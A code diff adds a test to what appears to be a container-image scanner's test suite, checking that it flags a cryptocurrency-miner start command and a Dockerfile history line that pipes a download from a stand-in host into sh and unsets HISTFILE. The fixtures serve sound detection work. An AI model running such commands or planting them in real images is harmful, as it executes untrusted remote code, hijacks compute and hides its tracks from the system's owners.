@@ -187,6 +187,17 @@ describe('an image', () => {
     expect(await said('packed-program', image)).toEqual(['/dev/shm/x in layer 0: packed by']);
   });
 
+  it('is started as a miner, or made by a dropper', async () => {
+    const start = { Cmd: ['sh', '-c', 'x -o stratum+tcp://pool.example:3333 --donate-level 1'] };
+    expect(await said('miner', holding({}, start))).toEqual([
+      'image app:1 is started so: protocol of mining pools, share for the makers of a miner',
+    ]);
+    const history = ['RUN curl -s http://192.0.2.1/a | sh; unset HISTFILE'];
+    expect(await said('backdoor-script', { ...sound, history })).toEqual([
+      'image app:1 is started so: runs what it loads from the network, covers its tracks',
+    ]);
+  });
+
   it('holds other programs than its packages brought, and some that none brought', async () => {
     const program = '\u007fELF of the package';
     const digest = createHash('sha1').update(program).digest('base64');
